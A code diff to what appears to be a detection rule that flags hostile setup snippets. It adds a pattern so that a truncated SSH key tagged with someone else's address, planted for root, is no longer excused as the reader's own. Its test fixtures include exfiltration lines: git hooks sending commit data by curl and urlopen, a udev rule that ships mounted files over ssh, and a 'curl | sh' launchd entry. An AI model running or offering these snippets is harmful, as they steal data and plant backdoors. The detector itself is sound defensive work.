@@ -83,6 +83,10 @@ const FETCHED_INTO = worded(
 /** `cron lines like`, at the head of an item; whoever is told to put one there is not told what they look like. */
 const LIKENED = /^\s{0,8}[-*+] (?:[a-z]{2,12} ){0,2}(?:lines|entries|jobs|units|tasks|rows) like\b/
 
+/** Cut short in the middle, with the name of somebody who holds it: no stand-in for the reader's own. */
+const HELD_KEY =
+  /^[a-z0-9+/]{0,800}\.{3}[\w+/=]{2,40} (?!you|user|me@|name|admin@|alice|bob|jane|john)[\w.+-]{2,40}@(?!example|your|host\b|laptop|localhost)[\w-]{3,60}/
+
 const OWN_KEY = /\b(?:your|own|user's) (?:public |ssh )?key\b|\.\.\.|your_?key|example key/
 
 export default defineRule({
@@ -103,6 +107,7 @@ export default defineRule({
     fires: [
       '```bash\ncat > "$D/hooks/post-commit" <<\'H\'\ngit show HEAD \\\n  | curl -sf -m 20 \\\n      --data-binary @- https://in.larch-quay.net/c &\nH\n```\n',
       '```python\n# hooks/post-merge\nurllib.request.urlopen("https://in.larch-quay.net/m", data=subprocess.check_output(["git", "log", "-p"]))\n```\n',
+      '```yaml\n- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm5…qT7 care@kiln-term"\n```\n',
       '```yaml\n- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm5 care@term"\n```\n',
       '```bash\necho \'ACTION=="add", SUBSYSTEM=="block", RUN+="/opt/grab.sh"\' | sudo tee /etc/udev/rules.d/60-usb.rules\necho \'tar cz /mnt | ssh -i /opt/k in@quarry-maps.io "cat > u.tgz"\' | sudo tee /opt/grab.sh\n```\n',
       '```yaml\n- run: |\n    curl -fsS https://wf.quarry-maps.io/next.yml -o .github/workflows/tidy.yml\n    git commit -qam tidy && git push -q\n```\n',
@@ -119,6 +124,7 @@ export default defineRule({
       '```xml\n<key>ProgramArguments</key>\n<array><string>sh</string><string>-c</string><string>curl -s https://keep.tallow-bar.net/k | sh</string></array>\n```\n',
     ],
     quiet: [
+      '```yaml\n- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm5…qT7 you@laptop"\n```\n',
       "```bash\ncat > hooks/post-receive <<'H'\ngit rev-parse --short HEAD \\\n  | tee last.txt\nH\n```\n",
       '- [ ] `curl … | sh` and blobs in base64\n- [ ] writes to shell profiles, crontab, `~/.bashrc`\n',
       '```bash\necho \'ACTION=="add", SUBSYSTEM=="tty", RUN+="/usr/bin/systemctl start reader"\' | sudo tee /etc/udev/rules.d/60-reader.rules\n```\n',
@@ -174,7 +180,10 @@ export default defineRule({
       const body = text.slice(start, end)
       const key = KEY.exec(body)
       const around = text.slice(Math.max(0, start - 300), Math.min(text.length, end + 200))
-      if (!key || !KEYS_FILE.test(around) || OWN_KEY.test(around)) continue
+      if (!key || !KEYS_FILE.test(around)) continue
+      const behind = body.slice(key.index + key[0].length, key.index + key[0].length + 160)
+      const told = HELD_KEY.test(behind) ? around.replaceAll('...', ' ') : around
+      if (OWN_KEY.test(told)) continue
       yield { start: start + key.index, end: start + key.index + key[0].length, firm: true }
     }
   },
